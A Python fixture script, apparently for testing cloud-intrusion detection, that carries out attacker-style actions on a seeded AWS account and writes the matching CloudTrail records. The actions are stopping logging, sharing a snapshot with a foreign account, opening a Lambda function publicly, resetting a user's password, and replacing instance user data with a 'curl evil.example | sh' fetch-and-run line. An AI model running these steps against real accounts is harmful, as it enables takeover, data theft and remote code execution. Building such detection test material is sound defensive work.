"""On an account seeded by ledger.py (argv[1]: its output), does what an
intruder would and AWS would log: stops the trail, shares the snapshot with
a foreign account, lets everyone invoke the function, resets bob's console
password and replaces the instance's user data; AWS itself rotates a key.
Writes the CloudTrail records AWS would have written, plus a read and a
denied call, into argv[2]/records.json."""
import base64
import json
import sys
import uuid

from common import Trail, client, emit

made = json.loads(sys.argv[1])
E = "us-east-1"
acct = made["account"]
trail = Trail(acct)
ct, ec2, iam, lam = (client(s, E) for s in ("cloudtrail", "ec2", "iam", "lambda"))
rid = {"requestId": str(uuid.uuid4()), "_return": True}

ct.stop_logging(Name=made["trail"])
trail.record("StopLogging", "cloudtrail.amazonaws.com", {"name": made["trail"]})
ec2.modify_snapshot_attribute(SnapshotId=made["snapshot"], Attribute="createVolumePermission",
                              OperationType="add", UserIds=["999988887777"])
trail.record("ModifySnapshotAttribute", "ec2.amazonaws.com",
             {"snapshotId": made["snapshot"], "attributeType": "CREATE_VOLUME_PERMISSION",
              "createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}}, rid)
stmt = lam.add_permission(FunctionName=made["function"], StatementId="open",
                          Action="lambda:InvokeFunction", Principal="*")["Statement"]
trail.record("AddPermission20150331v2", "lambda.amazonaws.com",
             {"functionName": made["function"], "statementId": "open",
              "action": "lambda:InvokeFunction", "principal": "*"}, {"statement": stmt})
iam.update_login_profile(UserName="bob", Password="Mallory-Owns-Bob-1!")
trail.record("UpdateLoginProfile", "iam.amazonaws.com", {"userName": "bob", "passwordResetRequired": False})
ec2.modify_instance_attribute(InstanceId=made["instance"],
                              UserData={"Value": base64.b64encode(b"#!/bin/bash\ncurl evil.example | sh\n")})
trail.record("ModifyInstanceAttribute", "ec2.amazonaws.com",
             {"instanceId": made["instance"], "userData": "<sensitiveDataRemoved>"}, rid)
# A read and a denied call: counted, never judged as writes.
trail.record("DescribeTrails", "cloudtrail.amazonaws.com", {})
trail.records[-1]["readOnly"] = True
trail.record("DeleteTrail", "cloudtrail.amazonaws.com", {"name": made["trail"]})
trail.records[-1]["errorCode"] = "AccessDenied"
# AWS acting as itself: routine, allowed by a built-in rule.
trail.record("RotateKey", "kms.amazonaws.com", None,
             {"keyId": f"arn:aws:kms:{E}:{acct}:key/1234abcd-12ab-34cd-56ef-1234567890ab"})
trail.records[-1]["userIdentity"] = {"accountId": acct, "invokedBy": "kms.amazonaws.com", "type": "AWSService"}
trail.write(sys.argv[2])
emit({"changed": [
    f"cloudtrail.trail/{E}/{made['trail']}",
    f"ec2.snapshot/{E}/{made['snapshot']}",
    f"lambda.function/{E}/{made['function']}",
    f"ec2.instance/{E}/{made['instance']}",
]})
